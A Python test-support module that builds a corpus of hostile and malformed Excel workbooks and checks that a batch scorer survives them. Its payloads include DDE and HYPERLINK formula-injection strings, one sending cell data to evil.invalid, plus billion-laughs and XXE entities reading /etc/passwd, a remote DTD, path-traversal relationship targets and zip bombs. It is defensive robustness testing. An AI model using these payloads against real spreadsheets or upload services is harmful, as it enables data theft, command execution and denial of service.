"""A corpus of hostile and malformed workbooks, derived from the sample submissions.

Each file takes a real sample workbook and breaks one thing the way a damaged upload, a buggy
exporter or an attacker would: truncated or mislabelled packages, XML entity bombs, huge or
out-of-range shared strings, cells of the wrong type, missing parts, relationships that point
outside the package, cells a million rows away, zips inside zips, duplicate parts, zip bombs and
formula-injection text. :func:`check_batch` runs the batch over a corpus and lists every breach
of the promise: no crash, no hang, no submission modified, every rejection with a reason, and
submitted text written as text, never as a formula.

Used by ``tests/test_hostile.py`` (a seeded sample, in CI) and ``benchmarks/run.py`` (all of it).
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import shutil
import struct
import tempfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from xl_localism.samples import SampleTrust, make_trust, sample_trusts

Members = list[tuple[str, bytes]]

ABOUT_SHEET = "xl/worksheets/sheet2.xml"  # the template's sheet order: Instructions, About, ...
TARGETS_SHEET = "xl/worksheets/sheet4.xml"
TARGETS_TABLE = "xl/tables/table3.xml"
WORKBOOK = "xl/workbook.xml"
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
CONTENT_TYPES = "[Content_Types].xml"

# Text that a spreadsheet would run as a formula or command if it were written as one.
INJECTIONS = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1\r",
)


# ---------------------------------------------------------------------------------------------
# Zip helpers


def read_members(data: bytes) -> Members:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info.filename)) for info in archive.infolist()]


def write_members(members: Members, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are sometimes the point
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            for name, content in members:
                archive.writestr(name, content)
    return buffer.getvalue()


def _edit(part: str, change: Callable[[bytes], bytes]) -> Callable[[Members], Members]:
    def apply(members: Members) -> Members:
        return [(name, change(content) if name == part else content) for name, content in members]
    return apply


def _drop(*parts: str) -> Callable[[Members], Members]:
    return lambda members: [(n, c) for n, c in members if n not in parts]


def _add(part: str, content: bytes) -> Callable[[Members], Members]:
    return lambda members: [*members, (part, content)]


def _put(part: str, content: bytes) -> Callable[[Members], Members]:
    """``part`` with ``content``, in place of any part of that name: a second part of one name
    would be refused as a damaged package before the content is looked at."""
    return lambda members: [*_drop(part)(members), (part, content)]


def _before_sheet_data(cells: bytes) -> Callable[[bytes], bytes]:
    """Insert rows at the end of a sheet's data (rows must stay after existing ones)."""
    return lambda xml: xml.replace(b"</sheetData>", cells + b"</sheetData>", 1)


def _in_first_data_cell(new_cell: bytes) -> Callable[[bytes], bytes]:
    """Replace row 2's first cell of the sheet (a data cell under the headers)."""
    def change(xml: bytes) -> bytes:
        return re.sub(rb'<c r="A2"[^>]*?(/>|>.*?</c>)', new_cell.replace(b"\\", b"\\\\"), xml,
                      count=1, flags=re.S)
    return change


def _with_prolog(prolog: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        return b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + body
    return change


LAUGHS = b"<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
    for i in range(1, 10)) + b"]>"
QUADRATIC = b'<!DOCTYPE q [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
EXTERNAL = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
REMOTE_DTD = b'<!DOCTYPE x SYSTEM "http://evil.invalid/evil.dtd">'


def _entity_in_text(entity: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"<t>Trust</t>", b"<t>" + entity + b"</t>", 1)


def _lie_about_size(data: bytes, part: str, size: int) -> bytes:
    """Rewrite the sizes a zip declares for ``part`` (a member that inflates past its claim)."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(part)
    struct.pack_into("<I", data, info.header_offset + 22, size)
    index = 0
    while (index := data.find(b"PK\x01\x02", index)) >= 0:
        length = struct.unpack_from("<H", data, index + 28)[0]
        if bytes(data[index + 46:index + 46 + length]) == part.encode():
            struct.pack_into("<I", data, index + 24, size)
        index += 4
    return bytes(data)


# ---------------------------------------------------------------------------------------------
# The mutations: (family, name, how) where how turns a sample's bytes into the hostile bytes.


@dataclass(frozen=True)
class Mutation:
    family: str
    name: str
    make: Callable[[bytes], bytes]
    # What a correct batch does with it: "scored", "rejected", or "either".
    expect: str = "either"


def _members_change(change: Callable[[Members], Members]) -> Callable[[bytes], bytes]:
    return lambda data: write_members(change(read_members(data)))


def _mutations() -> list[Mutation]:
    m: list[Mutation] = []

    def add(family: str, name: str, make: Callable[[bytes], bytes], expect: str = "either"
            ) -> None:
        m.append(Mutation(family, name, make, expect))

    def members(family: str, name: str, change: Callable[[Members], Members],
                expect: str = "either") -> None:
        add(family, name, _members_change(change), expect)

    for fraction in (0.0, 0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99):
        add("truncated", f"cut-{fraction:g}", lambda d, f=fraction: d[: int(len(d) * f)],
            "rejected")
    add("truncated", "minus-one-byte", lambda d: d[:-1], "rejected")
    add("truncated", "no-central-directory", lambda d: d[: d.rfind(b"PK\x01\x02")], "rejected")

    members("content-types", "missing", _drop(CONTENT_TYPES))
    members("content-types", "garbage", _edit(CONTENT_TYPES, lambda _: b"\x00\xffnot xml"))
    members("content-types", "empty", _edit(CONTENT_TYPES, lambda _: b""))
    members("content-types", "sheet-as-chart", _edit(CONTENT_TYPES, lambda x: x.replace(
        b"spreadsheetml.worksheet+xml", b"drawingml.chart+xml")))
    members("content-types", "wrong-root", _edit(CONTENT_TYPES, lambda _: b"<html><body/></html>"))
    members("content-types", "macro-enabled", _edit(CONTENT_TYPES, lambda x: x.replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")))

    for part in (ABOUT_SHEET, WORKBOOK, WORKBOOK_RELS, CONTENT_TYPES, "xl/styles.xml",
                 "xl/tables/table1.xml", "docProps/core.xml"):
        short = part.rsplit("/", 1)[-1]
        members("entities", f"billion-laughs-{short}", _edit(part, _with_prolog(LAUGHS)),
                "rejected")
    members("entities", "billion-laughs-in-cell", _edit(ABOUT_SHEET, lambda x: _entity_in_text(
        b"&lol9;")(_with_prolog(LAUGHS)(x))), "rejected")
    members("entities", "quadratic-blowup", _edit(ABOUT_SHEET, lambda x: _entity_in_text(
        b"&a;" * 2000)(_with_prolog(QUADRATIC)(x))), "rejected")
    members("entities", "external-file", _edit(ABOUT_SHEET, lambda x: _entity_in_text(
        b"&xxe;")(_with_prolog(EXTERNAL)(x))), "rejected")
    members("entities", "remote-dtd", _edit(WORKBOOK, _with_prolog(REMOTE_DTD)), "rejected")
    members("entities", "utf16-doctype", _edit(ABOUT_SHEET, lambda x: (
        '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16")
        + (LAUGHS.decode() + x.split(b"?>", 1)[-1].decode()).encode("utf-16-le"))), "rejected")
    members("entities", "shared-strings-laughs", lambda ms: _put(
        "xl/sharedStrings.xml", _with_prolog(LAUGHS)(_shared_strings(["&lol9;"])))(
        _edit(ABOUT_SHEET, _in_first_data_cell(b'<c r="A2" t="s"><v>0</v></c>'))(ms)),
        "rejected")

    members("shared-strings", "out-of-range-index", _edit(ABOUT_SHEET, _in_first_data_cell(
        b'<c r="A2" t="s"><v>99999</v></c>')), "either")
    members("shared-strings", "negative-index", _edit(ABOUT_SHEET, _in_first_data_cell(
        b'<c r="A2" t="s"><v>-1</v></c>')), "either")
    members("shared-strings", "huge-table", lambda ms: _add(
        "xl/sharedStrings.xml", _shared_strings([f"string {i} {'x' * (i % 50)}"
                                                 for i in range(150_000)]))(
        _edit(ABOUT_SHEET, _in_first_data_cell(b'<c r="A2" t="s"><v>149999</v></c>'))(ms)))
    members("shared-strings", "one-huge-string", lambda ms: _add(
        "xl/sharedStrings.xml", _shared_strings([_noise(3_000_000)]))(
        _edit(ABOUT_SHEET, _in_first_data_cell(b'<c r="A2" t="s"><v>0</v></c>'))(ms)))

    wrong_cells = {
        "number-holding-text": b'<c r="A2" t="n"><v>not a number</v></c>',
        "date-garbage": b'<c r="A2" t="d"><v>the 31st of Smarch</v></c>',
        "boolean-seven": b'<c r="A2" t="b"><v>7</v></c>',
        "unknown-error": b'<c r="A2" t="e"><v>#FOO!</v></c>',
        "inline-without-is": b'<c r="A2" t="inlineStr"><v>1</v></c>',
        "number-overflow": b'<c r="A2"><v>1e999</v></c>',
        "number-nan": b'<c r="A2"><v>NaN</v></c>',
        "unknown-type": b'<c r="A2" t="zz"><v>1</v></c>',
        "formula-string": b'<c r="A2" t="str"><f>1/0</f><v>#DIV/0!</v></c>',
        "style-out-of-range": b'<c r="A2" s="99999"><v>1</v></c>',
    }
    for name, cell in wrong_cells.items():
        for part, label in ((ABOUT_SHEET, "about"), (TARGETS_SHEET, "targets")):
            members("wrong-type", f"{name}-{label}", _edit(part, _in_first_data_cell(cell)))

    members("missing-parts", "workbook-rels", _drop(WORKBOOK_RELS))
    members("missing-parts", "targets-sheet", _drop(TARGETS_SHEET))
    members("missing-parts", "styles", _drop("xl/styles.xml"))
    members("missing-parts", "targets-table", _drop(TARGETS_TABLE))
    members("missing-parts", "sheet-rels", _drop("xl/worksheets/_rels/sheet4.xml.rels"))
    members("missing-parts", "workbook", _drop(WORKBOOK), "rejected")
    members("missing-parts", "doc-props", _drop("docProps/core.xml", "docProps/app.xml"))
    members("missing-parts", "every-sheet", lambda ms: [
        (n, c) for n, c in ms if not n.startswith("xl/worksheets/")])

    outside = {
        "parent-dirs": b"../../../../etc/passwd",
        "absolute": b"/etc/passwd",
        "http": b"http://evil.invalid/sheet.xml",
        "file-url": b"file:///etc/passwd",
        "windows": b"..\\..\\..\\windows\\win.ini",
        "unc": b"\\\\evil.invalid\\share\\sheet.xml",
    }
    for name, target in outside.items():
        members("outside-package", f"sheet-{name}", _edit(WORKBOOK_RELS, lambda x, t=target:
                                                          x.replace(b"/xl/worksheets/sheet4.xml",
                                                                    t, 1)))
        members("outside-package", f"table-{name}", _edit(
            "xl/worksheets/_rels/sheet4.xml.rels",
            lambda x, t=target: x.replace(b"/xl/tables/table3.xml", t, 1)))
    members("outside-package", "external-mode", _edit(WORKBOOK_RELS, lambda x: x.replace(
        b'Target="/xl/worksheets/sheet4.xml"',
        b'Target="http://evil.invalid/s.xml" TargetMode="External"', 1)))

    far = {
        "last-cell": b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "past-excel": b'<row r="1048577"><c r="A1048577"><v>1</v></c></row>',
        "absurd-row": b'<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>',
        "wide-column": b'<row r="5000"><c r="ZZZZ5000"><v>1</v></c></row>',
        "cell-outside-its-row": b'<row r="100"><c r="XFD1048576"><v>1</v></c></row>',
        "row-zero": b'<row r="0"><c r="A0"><v>1</v></c></row>',
        "positional-rows": b"<row/>" * 200_000 + b"<row><c><v>1</v></c></row>",
        "positional-cells": b'<row r="60000">' + b"<c/>" * 20_000 + b"<c><v>1</v></c></row>",
    }
    for name, rows in far.items():
        members("enormous", name, _edit(TARGETS_SHEET, _before_sheet_data(rows)))
    members("enormous", "dimension-claim", _edit(TARGETS_SHEET, lambda x: re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', x)), "scored")
    members("enormous", "table-claim", _edit(TARGETS_TABLE, lambda x: re.sub(
        rb'ref="[^"]*"', b'ref="A1:XFD1048576"', x)), "scored")
    members("enormous", "real-rows", _edit(TARGETS_SHEET, _before_sheet_data(b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Anytown</t></is></c>'
        b'<c r="B%d" t="inlineStr"><is><t>NI 18</t></is></c></row>' % (r, r, r)
        for r in range(1000, 21_000)))))
    members("enormous", "far-cell-in-unread-sheet", _edit(
        "xl/worksheets/sheet1.xml", _before_sheet_data(
            b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')))

    # calamine parses whatever part a sheet's relationship names, in any folder.
    far_sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                 b'</sheetData></worksheet>')
    for name, target, part in (("outside-sheet-folders", b"evil.xml", "xl/evil.xml"),
                               ("other-case-folder", b"/xl/Worksheets/evil.xml",
                                "xl/Worksheets/evil.xml"),
                               ("chartsheet-folder", b"chartsheets/sheet1.xml",
                                "xl/chartsheets/sheet1.xml")):
        members("far-sheet-elsewhere", name, lambda ms, target=target, part=part: _add(
            part, far_sheet)(_edit(WORKBOOK_RELS, lambda x, target=target: re.sub(
                rb'Target="/?(?:xl/)?worksheets/sheet1\.xml"', b'Target="' + target + b'"',
                x))(ms)), "rejected")

    members("nested-zips", "zip-in-embeddings", lambda ms: _add(
        "xl/embeddings/oleObject1.bin", _nested_zip(30))(ms))
    members("nested-zips", "sheet-is-a-zip", lambda ms: _edit(
        TARGETS_SHEET, lambda _: write_members(ms))(ms))
    members("nested-zips", "workbook-is-a-zip", lambda ms: _edit(
        WORKBOOK, lambda _: _nested_zip(5))(ms), "rejected")
    members("nested-zips", "bomb-inside-zip", lambda ms: _add(
        "xl/embeddings/package.zip", write_members([("zeros.bin", b"\0" * (16 << 20))]))(ms))

    members("duplicates", "workbook-twice", lambda ms: [*ms, (WORKBOOK, b"<workbook/>")],
            "rejected")
    members("duplicates", "sheet-twice", lambda ms: [*ms, (TARGETS_SHEET, dict(ms)[
        TARGETS_SHEET].replace(b"NI ", b"NI 9"))], "rejected")

    members("zip-bomb", "zeros-member", _add("xl/bomb.bin", b"\0" * (16 << 20)), "rejected")
    members("zip-bomb", "padded-sheet", _edit(TARGETS_SHEET, lambda x: x.replace(
        b"<sheetData>", b"<sheetData>" + b" " * (20 << 20), 1)), "rejected")
    add("zip-bomb", "declares-600-mb", lambda d: _lie_about_size(d, TARGETS_SHEET, 600 << 20),
        "rejected")
    add("zip-bomb", "sheet-lies-about-size", lambda d: _lie_about_size(d, TARGETS_SHEET, 100),
        "rejected")
    add("zip-bomb", "styles-lie-about-size", lambda d: _lie_about_size(d, "xl/styles.xml", 10),
        "rejected")
    members("zip-bomb", "stored-not-deflated", lambda ms: ms)

    add("not-a-workbook", "empty-file", lambda _: b"", "rejected")
    add("not-a-workbook", "zip-magic-then-noise", lambda _: b"PK\x03\x04" + _noise(4000).encode(),
        "rejected")
    add("not-a-workbook", "old-xls", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
        "rejected")
    add("not-a-workbook", "encrypted-marker", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + "EncryptionInfo".encode("utf-16-le") + b"\0" * 512, "rejected")
    add("not-a-workbook", "html-saved-as-xlsx", lambda _: b"<html><table><tr><td>1</td></tr>"
        b"</table></html>", "rejected")
    members("malformed-xml", "sheet-cut-mid-tag", _edit(TARGETS_SHEET, lambda x: x[: len(x) // 2]))
    members("malformed-xml", "invalid-utf8", _edit(ABOUT_SHEET, lambda x: x.replace(
        b"<t>Trust</t>", b"<t>Tr\xff\xfeust</t>", 1)))
    members("malformed-xml", "deep-nesting", _edit(ABOUT_SHEET, lambda x: x.replace(
        b"<t>Trust</t>", b"<t>Trust</t>" + b"<x>" * 100_000 + b"</x>" * 100_000, 1)))
    members("malformed-xml", "many-tables", lambda ms: ms + [
        (f"xl/tables/extra{i}.xml", dict(ms)[TARGETS_TABLE].replace(
            b'name="Targets"', b'name="T%d"' % i)) for i in range(3000)])
    members("malformed-xml", "merged-everything", _edit(TARGETS_SHEET, lambda x: x.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/>'
        b"</mergeCells>", 1)))
    members("malformed-xml", "control-characters", _edit(ABOUT_SHEET, lambda x: x.replace(
        b"<t>Trust</t>", b"<t>Tr&#1;u&#27;st</t>", 1)))
    members("malformed-xml", "namespace-swap", _edit(TARGETS_SHEET, lambda x: x.replace(
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        b"http://evil.invalid/ns", 1)))
    return m


def _shared_strings(strings: list[str]) -> bytes:
    from xml.sax.saxutils import escape

    items = "".join(f"<si><t>{s if s.startswith('&') else escape(s)}</t></si>" for s in strings)
    return (f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>').encode()


def _noise(length: int) -> str:
    # Words that do not compress well, so a big part is big on disk too (no ratio alarm).
    rng = random.Random(length)
    return " ".join(f"{rng.getrandbits(40):x}" for _ in range(length // 11))


def _nested_zip(depth: int) -> bytes:
    data = b"the innermost file"
    for level in range(depth):
        data = write_members([(f"level{level}.zip", data)])
    return data


MUTATIONS = _mutations()


def _with_ordinary_inputs() -> None:
    """The corpus also holds what ordinary use produces (issue 14): see hostile_ordinary."""
    import hostile_ordinary

    MUTATIONS.extend(hostile_ordinary.ordinary_mutations())


# ---------------------------------------------------------------------------------------------
# Formula-injection submissions: scored, and their text must come out as text.


def _injected_trusts() -> list[tuple[str, SampleTrust]]:
    made = []
    for index, payload in enumerate(INJECTIONS):
        trust = make_trust("Kent", quality=0.5 + index / 40, seed=600 + index)
        trust.tables["about"].rows[0][1] = payload  # the trust's name
        targets = trust.tables["targets"].rows
        targets[0][0] = payload  # an LAA name (quoted in the Summary's targets table)
        trust.tables["checklist"].rows[0][4] = payload  # a status quoted in a flag message
        trust.tables["checklist"].rows[1][5] = payload  # evidence
        made.append((f"injection-{index}", trust))
    return made


# ---------------------------------------------------------------------------------------------
# Writing the corpus


@dataclass(frozen=True)
class Entry:
    path: Path
    family: str
    expect: str
    payload: str | None = None  # injection text that must appear, as text, in the outputs


def _bases(folder: Path) -> list[Path]:
    from xl_localism.demo import write_sample

    folder.mkdir(parents=True, exist_ok=True)
    return [write_sample(t, folder / f"{t.slug}.xlsx") for t in sample_trusts()]


def write_corpus(folder: Path, seed: int = 6, sample: int | None = None) -> list[Entry]:
    """Write the corpus (or a seeded, family-stratified ``sample`` of it) under ``folder``.

    Every mutation is applied to each of the four sample workbooks; the injections are their
    own submissions. Returns what was written and what a correct batch must do with each.
    """
    from xl_localism.demo import write_sample

    with tempfile.TemporaryDirectory() as scratch:
        bases = _bases(Path(scratch))
        base_bytes = [(b.stem, b.read_bytes()) for b in bases]
    plan: list[tuple[str, Callable[[], tuple[bytes | SampleTrust, Entry]]]] = []
    for mutation in MUTATIONS:
        for stem, data in base_bytes:
            name = f"{mutation.family}/{mutation.name}--{stem}.xlsx"
            plan.append((mutation.family, _planned(folder / name, mutation, data)))
    for name, trust in _injected_trusts():
        payload = trust.tables["about"].rows[0][1]
        entry = Entry(folder / "injection" / f"{name}.xlsx", "injection", "scored", payload)
        plan.append(("injection", lambda t=trust, e=entry: (t, e)))
    if sample is not None:
        plan = _stratified(plan, sample, random.Random(seed))
    written = []
    for _, make in plan:
        content, entry = make()
        entry.path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, SampleTrust):
            write_sample(content, entry.path)
        else:
            entry.path.write_bytes(content)
        written.append(entry)
    return written


def _planned(path: Path, mutation: Mutation, data: bytes
             ) -> Callable[[], tuple[bytes | SampleTrust, Entry]]:
    def make() -> tuple[bytes | SampleTrust, Entry]:
        content = mutation.make(data)
        if mutation.name == "stored-not-deflated":
            content = write_members(read_members(data), zipfile.ZIP_STORED)
        return content, Entry(path, mutation.family, mutation.expect)
    return make


def _stratified(plan: list[Any], size: int, rng: random.Random) -> list[Any]:
    """About ``size`` items, every family represented, the rest drawn at random."""
    families: dict[str, list[Any]] = {}
    for item in plan:
        families.setdefault(item[0], []).append(item)
    share = max(1, size // len(families))
    chosen = []
    for items in families.values():
        chosen.extend(rng.sample(items, min(share, len(items))))
    rest = [item for item in plan if item not in chosen]
    chosen.extend(rng.sample(rest, max(0, min(size - len(chosen), len(rest)))))
    return chosen


# ---------------------------------------------------------------------------------------------
# Running the batch over a corpus and checking every promise


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def formulas_in(path: Path) -> list[str]:
    """Every <f> (formula) element in the sheets of an xlsx: we must never write one."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]",
                                                                   archive.read(name))]


def texts_in(path: Path) -> set[str]:
    """Every string cell value of an xlsx, as openpyxl reads it back."""
    import openpyxl

    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        return {value for sheet in workbook.worksheets
                for row in sheet.iter_rows(values_only=True)
                for value in row if isinstance(value, str)}
    finally:
        workbook.close()


def check_batch(corpus: Path, out: Path, *, jobs: int | None = None, timeout: float = 30.0,
                entries: list[Entry] | None = None) -> dict[str, Any]:
    """Run the batch over ``corpus`` and list every broken promise (an empty list is a pass)."""
    from xl_localism.batch.national import write_national_report
    from xl_localism.batch.runner import run_batch

    if out.exists():
        shutil.rmtree(out)
    before = _digest(corpus)
    problems: list[str] = []
    result = run_batch(corpus, out, jobs=jobs, timeout=timeout,
                       write_report=write_national_report)
    if _digest(corpus) != before:
        problems.append("a submission was modified or a file was written among them")
    expected = {str(e.path.relative_to(corpus)): e for e in entries or []}
    seen = {o.source for o in result.outcomes}
    problems += [f"{name}: no outcome at all" for name in expected if name not in seen]
    for outcome in result.outcomes:
        entry = expected.get(outcome.source)
        if outcome.summary is None and not (outcome.rejected or "").strip():
            problems.append(f"{outcome.source}: neither scored nor rejected with a reason")
        reason = outcome.rejected or ""
        if "took longer than" in reason:
            problems.append(f"{outcome.source}: hung ({reason})")
        if "stopped unexpectedly" in reason:
            problems.append(f"{outcome.source}: crashed the reader ({reason})")
        if reason.startswith("could not be scored"):
            problems.append(f"{outcome.source}: an unexpected error ({reason})")
        if entry and entry.expect == "scored" and outcome.summary is None:
            problems.append(f"{outcome.source}: should have been scored, was rejected: {reason}")
        if entry and entry.expect == "rejected" and outcome.summary is not None:
            problems.append(f"{outcome.source}: should have been rejected, was scored")
    report = out / "national_summary.xlsx"
    if not report.exists():
        problems.append("no national report was written")
    else:
        problems += [f"report: formula in {part}" for part in formulas_in(report)]
        report_texts = texts_in(report)
        for outcome in result.scored:
            entry = expected.get(outcome.source)
            # The name as read (surrounding spaces trimmed) must come back as text.
            trust = outcome.summary["trust"]  # type: ignore[index]
            if entry and entry.payload and trust not in report_texts:
                problems.append(f"{outcome.source}: {trust!r} is not text in the report")
            if not outcome.current:
                continue  # superseded by a newer file of its return: no feedback of its own
            if outcome.feedback is None or not outcome.feedback.exists():
                problems.append(f"{outcome.source}: scored but no feedback workbook")
                continue
            problems += [f"{outcome.source} feedback: formula in {part}"
                         for part in formulas_in(outcome.feedback)]
            if entry and entry.payload and trust not in texts_in(outcome.feedback):
                problems.append(f"{outcome.source}: {trust!r} is not text in its feedback")
    escaped = [p for p in out.parent.rglob("*") if p.name in ("passwd", "win.ini")]
    if escaped:
        problems.append(f"files written outside the output folder: {escaped}")
    return {"scored": len(result.scored), "rejected": len(result.rejected),
            "problems": problems, "outcomes": len(result.outcomes)}


_with_ordinary_inputs()
